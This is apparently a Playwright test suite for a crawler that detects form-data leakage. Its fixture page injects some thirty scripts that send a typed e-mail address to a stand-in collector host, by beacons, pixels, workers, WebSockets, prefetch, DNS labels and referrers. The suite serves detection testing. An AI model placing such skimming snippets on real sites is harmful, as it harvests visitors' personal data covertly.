import { expect, test } from '@playwright/test';
import type { Transmission } from '../../crawler/evidence/filled.js';
import { fillOn, formPage } from './fill-site.js';
import type { Site } from './logging-server.js';

const form = `<form action="/join" method="post"><label>E-mail <input type="email" name="email"></label>
  <label>Full name <input name="name"></label><button>Join</button></form>`;

/** Each sender names itself in the path of its address: `/<name>`. `C` is the collector, `v` the e-mail address that was typed. */
interface Sender {
  readonly name: string;
  /** When it sends: the e-mail field is left, the form submitted, the page left, or while keys come. */
  readonly when: 'blur' | 'submit' | 'leave' | 'input' | 'start';
  readonly script: string;
  readonly channel: Transmission['channel'];
  readonly moment: Transmission['moment'];
  readonly host?: string;
}

const frame = (attributes: string): string =>
  `document.body.insertAdjacentHTML('beforeend', '<iframe ${attributes}></iframe>')`;
const link = (rel: string, path: string): string =>
  `const l = document.createElement('link'); l.rel = '${rel}'; l.href = C + '${path}?' + v; document.head.append(l)`;
const worker = (code: string): string =>
  `new Worker(URL.createObjectURL(new Blob([\`${code}\`]))).postMessage(v)`;

const senders: readonly Sender[] = [
  {
    name: 'json',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `post('/json', JSON.stringify({ a: [{ v }] }))`,
  },
  {
    name: 'given-up',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `const c = new AbortController(); fetch(C + '/given-up?v=' + encodeURIComponent(v), { signal: c.signal }).catch(() => undefined); c.abort()`,
  },
  {
    name: 'preflight',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `fetch(C + '/preflight', { method: 'PUT', headers: { 'x-v': btoa(v) }, body: '{}' })`,
  },
  {
    name: 'gzip',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `new Response(new Blob([JSON.stringify({ v })]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(b => post('/gzip', b))`,
  },
  {
    name: 'large',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `post('/large', 'pad '.repeat(50000) + v)`,
  },
  {
    name: 'xhr-sha256',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `crypto.subtle.digest('SHA-256', new TextEncoder().encode(v.toLowerCase())).then(d => { const x = new XMLHttpRequest(); x.open('GET', C + '/xhr-sha256?h=' + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join('')); x.send(); })`,
  },
  {
    name: 'multipart',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: `const d = new FormData(); d.append('f', new Blob(['x ' + v]), 'a.txt'); post('/multipart', d)`,
  },
  {
    name: 'beacon',
    when: 'blur',
    channel: 'beacon',
    moment: 'blur',
    script: `navigator.sendBeacon(C + '/beacon', new URLSearchParams({ v }))`,
  },
  {
    name: 'leave-beacon',
    when: 'leave',
    channel: 'beacon',
    moment: 'leaving',
    script: `navigator.sendBeacon(C + '/leave-beacon', encodeURIComponent(v))`,
  },
  {
    name: 'leave-keepalive',
    when: 'leave',
    channel: 'fetch',
    moment: 'leaving',
    script: `fetch(C + '/leave-keepalive', { method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(v) })`,
  },
  {
    name: 'leave-pixel',
    when: 'leave',
    channel: 'image',
    moment: 'leaving',
    script: `new Image().src = C + '/leave-pixel?v=' + encodeURIComponent(v)`,
  },
  {
    name: 'submit-pixel',
    when: 'submit',
    channel: 'image',
    moment: 'submit',
    script: `new Image().src = C + '/submit-pixel?v=' + encodeURIComponent(v)`,
  },
  {
    name: 'typing-pixel',
    when: 'input',
    channel: 'image',
    moment: 'typing',
    script: `new Image().src = C + '/typing-pixel?v=' + v.split('').reverse().join('')`,
  },
  {
    name: 'ping',
    when: 'blur',
    channel: 'ping',
    moment: 'blur',
    script: `const a = document.createElement('a'); a.href = '#x'; a.ping = C + '/ping?v=' + v; document.body.append(a); a.click()`,
  },
  {
    name: 'script',
    when: 'blur',
    channel: 'script',
    moment: 'blur',
    script: `const s = document.createElement('script'); s.src = C + '/script?' + v; document.body.append(s)`,
  },
  { name: 'style', when: 'blur', channel: 'style', moment: 'blur', script: link('stylesheet', '/style') },
  {
    name: 'css-picture',
    when: 'blur',
    channel: 'image',
    moment: 'blur',
    script: `document.body.style.backgroundImage = 'url(' + C + '/css-picture?' + v + ')'`,
  },
  {
    name: 'font',
    when: 'blur',
    channel: 'font',
    moment: 'blur',
    script: `new FontFace('x', 'url(' + C + '/font?' + v + ')').load().catch(() => 0)`,
  },
  {
    name: 'video',
    when: 'blur',
    channel: 'media',
    moment: 'blur',
    script: `const m = document.createElement('video'); m.src = C + '/video?' + v; document.body.append(m)`,
  },
  {
    name: 'frame',
    when: 'blur',
    channel: 'frame',
    moment: 'blur',
    script: `const f = document.createElement('iframe'); f.src = C + '/frame?' + v; document.body.append(f)`,
  },
  {
    name: 'text-form',
    when: 'blur',
    channel: 'frame',
    moment: 'blur',
    script: `${frame('name=q')}; document.body.insertAdjacentHTML('beforeend', '<form id=q2 hidden target=q method=post enctype=text/plain action=' + C + '/text-form><input name=v></form>'); q2.v.value = v; q2.submit()`,
  },
  {
    name: 'worker',
    when: 'blur',
    channel: 'fetch',
    moment: 'blur',
    script: worker(
      `onmessage = e => fetch('https://collector.example/worker', { method: 'POST', mode: 'no-cors', body: e.data })`,
    ),
  },
  {
    name: 'eventsource',
    when: 'blur',
    channel: 'eventsource',
    moment: 'blur',
    script: `new EventSource(C + '/eventsource?v=' + v)`,
  },
  {
    name: 'websocket',
    when: 'start',
    channel: 'websocket',
    moment: 'blur',
    script: `const s = new WebSocket('wss://collector.example/websocket'); email.addEventListener('blur', () => s.send(JSON.stringify({ v: btoa(email.value) })))`,
  },
  {
    name: 'worker-websocket',
    when: 'start',
    channel: 'websocket',
    moment: 'blur',
    script: `const w = new Worker(URL.createObjectURL(new Blob(['const s = new WebSocket("wss://collector.example/worker-websocket"); onmessage = e => s.send(e.data)']))); email.addEventListener('blur', () => w.postMessage(email.value))`,
  },
  {
    name: 'prefetch',
    when: 'blur',
    channel: 'prefetch',
    moment: 'blur',
    script: link('prefetch', '/prefetch'),
  },
  {
    name: 'speculation',
    when: 'blur',
    channel: 'prefetch',
    moment: 'blur',
    host: 'www.mpro.org',
    script: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['/speculation?' + v], eagerness: 'immediate' }] }); document.head.append(s)`,
  },
  {
    name: 'host-label',
    when: 'blur',
    channel: 'image',
    moment: 'blur',
    host: '',
    script: `new Image().src = 'https://' + v.replace('@', '.') + '.collector.example/host-label'`,
  },
];

const events: Readonly<Record<Sender['when'], string>> = {
  blur: `email.addEventListener('blur', send)`,
  submit: `document.forms[0].addEventListener('submit', send)`,
  leave: `addEventListener('pagehide', send)`,
  input: `email.addEventListener('input', send)`,
  start: `send()`,
};

/** Scripts of all senders. `value` is what each of them sends, as an expression; it sends nothing while that is empty. */
const scriptOf = (value: string): string =>
  senders
    .map(({ name, when, script }) => {
      const sent = value.replaceAll('NAME', `'${name}'`);
      const isReady = when === 'input' ? `v.includes('.')` : when === 'start' ? 'true' : `v !== ''`;
      const body = script.replaceAll('email.value', sent);
      return `{ const send = () => { const v = ${sent}; if (${isReady}) { ${body} } }; ${events[when]}; }`;
    })
    .join('\n');

const open = {
  'access-control-allow-origin': '*',
  'access-control-allow-headers': '*',
  'access-control-allow-methods': '*',
};
const siteOf =
  (script: string): Site =>
  ({ path, host }) =>
    host === 'www.mpro.org' && path === '/'
      ? formPage(
          form,
          `const C = 'https://collector.example'; const email = document.querySelector('[name=email]');
           const post = (path, body) => fetch(C + path, { method: 'POST', mode: 'no-cors', body }); ${script}`,
        )
      : { body: 'ok', headers: open };

/** Spellings of a value that would betray it in a server's log without the matcher's help. */
const spellings = (value: string): string[] => [
  value,
  encodeURIComponent(value),
  value.split('').reverse().join(''),
  Buffer.from(value).toString('base64').slice(0, 12),
  Buffer.from(value).toString('hex').slice(0, 16),
  value.split('@')[0] ?? value,
];

const sightedFields = (sent: readonly Transmission[]): string[] => [
  ...new Set(sent.flatMap(({ sightings }) => sightings.map(({ field }) => field))),
];

test('every channel is seen at its moment, and in a dry run not a byte of a typed value arrives on any', async () => {
  const { filled, raw } = await fillOn(siteOf(scriptOf('email.value')));
  expect(filled.outcome).toEqual({ ok: true });
  const value = filled.typed.find(({ kind }) => kind === 'email')?.value ?? '';
  expect(value).toContain('@');
  const side = filled.transmissions.filter(({ isSubmission }) => !isSubmission);
  const told = side.map(
    ({ url, channel, moment }) => `${new URL(url).pathname.slice(1)} ${channel} ${moment}`,
  );
  expect([...new Set(told)].sort()).toEqual(
    senders.map(({ name, channel, moment }) => `${name} ${channel} ${moment}`).sort(),
  );
  expect(side.every(({ stopped }) => stopped)).toBe(true);
  expect(sightedFields(side)).toEqual(['input[name="email"]']);
  for (const spelling of spellings(value)) expect(raw.includes(spelling)).toBe(false);
});

test('the same channels without a typed value are neither recorded nor stopped', async () => {
  const once = `const done = new Set(); const once = name => (done.has(name) ? '' : (done.add(name), 'field.left'));`;
  const { filled, requests } = await fillOn(siteOf(`${once} ${scriptOf('once(NAME)')}`));
  expect(filled.transmissions.filter(({ isSubmission }) => !isSubmission)).toEqual([]);
  const arrived = new Set(requests.map(({ path }) => path.split('?')[0]?.slice(1)));
  const nowhere = ['host-label', 'given-up'];
  const expected = senders.map(({ name }) => name).filter(name => !nowhere.includes(name));
  expect(expected.filter(name => !arrived.has(name))).toEqual([]);
});

test('a cookie that holds a value is seen on its way to the first party, and a referrer on its way to a third', async () => {
  const script = `email.addEventListener('blur', () => { document.cookie = 'e=' + encodeURIComponent(email.value); new Image().src = '/cookie';
    history.replaceState(0, '', '/?e=' + email.value); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = C + '/referrer'; });`;
  const { filled, raw } = await fillOn(siteOf(script));
  const value = filled.typed.find(({ kind }) => kind === 'email')?.value ?? '';
  const side = filled.transmissions.filter(({ isSubmission }) => !isSubmission);
  const told = side.map(
    ({ host, sightings }) => `${host} ${[...new Set(sightings.map(({ where }) => where))].sort().join()}`,
  );
  expect(told).toContain('collector.example referer');
  expect(told.filter(each => each.startsWith('www.mpro.org'))).toEqual(['www.mpro.org cookie,referer']);
  expect(
    side.flatMap(({ sightings }) => sightings).filter(({ where }) => where === 'cookie')[0]?.excerpt,
  ).toBe('(not shown)');
  expect(filled.pageUrlsWithValues).toEqual([`https://www.mpro.org/?e=${value}`]);
  for (const spelling of spellings(value)) expect(raw.includes(spelling)).toBe(false);
});

test('what the site itself forbids its scripts to send is no attempt', async () => {
  const script = `const email = document.querySelector('[name=email]');
    email.addEventListener('blur', () => { const v = encodeURIComponent(email.value); if (v === '') return;
      new Image().src = 'https://collector.example/forbidden?' + v;
      fetch('https://collector.example/forbidden?' + v, { method: 'POST', body: email.value }).catch(() => undefined); });`;
  const policy = { 'content-security-policy': "connect-src 'self'; img-src 'self'" };
  const { filled } = await fillOn(({ path }) =>
    path === '/' ? { ...formPage(form, script), headers: policy } : { body: 'ok' },
  );
  expect(filled.outcome).toEqual({ ok: true });
  expect(filled.transmissions.filter(({ isSubmission }) => !isSubmission)).toEqual([]);
});
